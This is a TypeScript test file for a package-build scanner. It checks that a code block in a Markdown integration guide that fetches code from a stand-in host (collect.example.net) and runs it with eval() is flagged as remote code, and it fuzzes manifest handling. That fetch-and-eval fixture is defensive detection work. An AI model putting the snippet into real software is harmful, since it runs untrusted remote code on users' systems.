import fc from 'fast-check';
import { expect, test } from 'vitest';
import { runs } from '../tests/run/runs.ts';
import { examineBuild, openBlocks, scanBlocks } from './examine-build.ts';
import type { SourceFile } from './source.ts';

const GUIDE = `# Integrate

## Steps

1. Start:

   \`\`\`ts wire file src/start.ts
   const answer = await fetch('https://collect.example.net/x');
   const code = await answer.text();

   eval(code);
   \`\`\`
`;

function scanned(guide: string): unknown[] {
  const files = [{ path: 'INTEGRATION.md', bytes: Buffer.from(guide), executable: false }];
  const manifest = {
    name: 'x',
    version: '1.0.0',
    kind: 'module',
    description: 'd',
    license: 'MIT',
  } as const;
  const blocks = openBlocks({ id: 'a/x', manifest, files });
  if (blocks === undefined) return [];
  return scanBlocks(blocks).map(({ code, level, file, place }) => [code, level, file, place?.line]);
}

test('scanBlocks() reports what a block does at its line in the guide', () => {
  expect(scanned(GUIDE)).toEqual([['remote-code', 'error', 'INTEGRATION.md', 11]]);
});

test('scanBlocks() leaves ordinary fences to the rules for texts', () => {
  expect(scanned(GUIDE.replace('ts wire file src/start.ts', 'ts'))).toEqual([]);
});

test('examineBuild() judges a published build whatever the members of its manifest are', () => {
  const names = fc.constantFrom(
    ...'kind description license keywords stack dependencies devDependencies builds files'.split(
      ' ',
    ),
    ...'base env scripts repository homepage'.split(' '),
  );
  const within = fc.dictionary(
    fc.constantFrom('npm', 'pip', 'requires', 'provides'),
    fc.jsonValue(),
  );
  const members = fc.dictionary(names, fc.oneof(fc.jsonValue(), within));
  fc.assert(
    fc.property(members, (more) => {
      const bytes = Buffer.from(JSON.stringify({ name: 'x', version: '1.0.0', ...more }));
      const file = { path: 'stackyard.json', bytes, size: bytes.length, type: 'file' } as const;
      const files: SourceFile[] = [{ ...file, isUtf8Path: true }];
      const source = { files, isCut: false };
      const { valid } = examineBuild({ owner: 'a', name: 'x', source, isPublished: true });
      expect(valid?.findings.filter(({ code }) => code === 'check-failed')).toEqual([]);
    }),
    { numRuns: runs(2_000) },
  );
});
